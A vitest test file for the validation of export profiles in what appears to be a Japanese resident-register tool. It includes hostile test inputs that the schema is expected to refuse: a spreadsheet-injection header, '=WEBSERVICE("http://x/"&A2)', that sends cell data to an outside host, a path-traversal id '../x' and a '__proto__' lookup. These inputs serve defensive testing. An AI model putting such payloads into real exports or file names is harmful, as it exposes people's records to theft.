import { describe, expect, test } from 'vitest'
import { ExportProfile } from '@/lib/exports/profile'
import { exportProfiles, findProfile } from '@/lib/exports/profiles'

const profile = {
  id: 'p',
  title: '様式',
  about: '',
  rows: 'draft',
  file: { kind: 'csv', encoding: 'cp932', hasHeader: true, reader: 'machine' },
  columns: [{ name: '電話', from: { path: 'phone' } }],
}
const joined = (...join: string[]) => ({ name: 'あ', from: { join, between: '' } })
const with_ = (changes: object) => ExportProfile.safeParse({ ...profile, ...changes })

describe('a profile', () => {
  test('is plain data: written and read again it is the same', () => {
    for (const one of exportProfiles) expect(ExportProfile.parse(JSON.parse(JSON.stringify(one)))).toEqual(one)
  })

  test('is accepted as it stands', () => {
    expect(with_({}).success).toBe(true)
  })

  test.each([
    ['a path that does not exist', { columns: [{ name: 'あ', from: { path: 'each.myNumber' } }] }],
    ['two columns of one name', { columns: [...profile.columns, ...profile.columns] }],
    ['a person where a row is a draft', { columns: [{ name: 'あ', from: { path: 'each.name' } }] }],
    ['a fixed column without a width', { file: { kind: 'fixed-width', encoding: 'cp932' } }],
    ['no columns', { columns: [] }],
    ['a join of persons where a row is a draft', { columns: [joined('each.name', 'phone')] }],
    ['a join of one', { columns: [joined('phone')] }],
    ['a join of what does not exist', { columns: [joined('phone', 'filer.shoeSize')] }],
    ['an unknown key', { columns: [{ ...profile.columns[0], keys: ['Del'] }] }],
    ['no key at all', { columns: [{ ...profile.columns[0], keys: [] }] }],
    ['a width of nothing', { columns: [{ ...profile.columns[0], bytes: 0 }] }],
    ['half a wide space', { columns: [{ ...profile.columns[0], pad: 'wide-space-right', bytes: 7 }] }],
    ['a way of writing that is not on the list', { columns: [{ ...profile.columns[0], format: 'javascript' }] }],
    [
      'more columns than any system has',
      { columns: Array.from({ length: 201 }, (_, at) => ({ ...profile.columns[0], name: `${at}` })) },
    ],
    ['an id that is no file name', { id: '../x' }],
    ['a header that calculates', { columns: [{ ...profile.columns[0], name: '=WEBSERVICE("http://x/"&A2)' }] }],
    ['a header that calculates in full width', { columns: [{ ...profile.columns[0], name: '＋1' }] }],
    ['a header of two lines', { columns: [{ ...profile.columns[0], name: 'あ\n=1' }] }],
  ])('is refused with %s', (_, changes) => {
    expect(with_(changes).success).toBe(false)
  })
})

describe('the profiles at hand', () => {
  test('are of every kind, each under an id of its own', () => {
    expect(new Set(exportProfiles.map(({ file }) => file.kind))).toEqual(
      new Set(['csv', 'fixed-width', 'json', 'keystrokes']),
    )
    expect(new Set(exportProfiles.map(({ id }) => id)).size).toBe(exportProfiles.length)
    expect(findProfile('residents')?.title).toBe('住民記録 CSV')
    expect(findProfile('__proto__')).toBeNull()
  })

  test('say of every column of the register that nobody has compared it with the standard', () => {
    const unconfirmed = findProfile('residents')?.columns.every(column => column.unconfirmed?.includes('原本'))
    expect(unconfirmed).toBe(true)
  })

  test('have no column for the individual number', () => {
    const names = exportProfiles.flatMap(({ columns }) => columns.map(({ name }) => name))
    expect(names.filter(name => /個人番号|マイナンバー/.test(name))).toEqual([])
  })
})
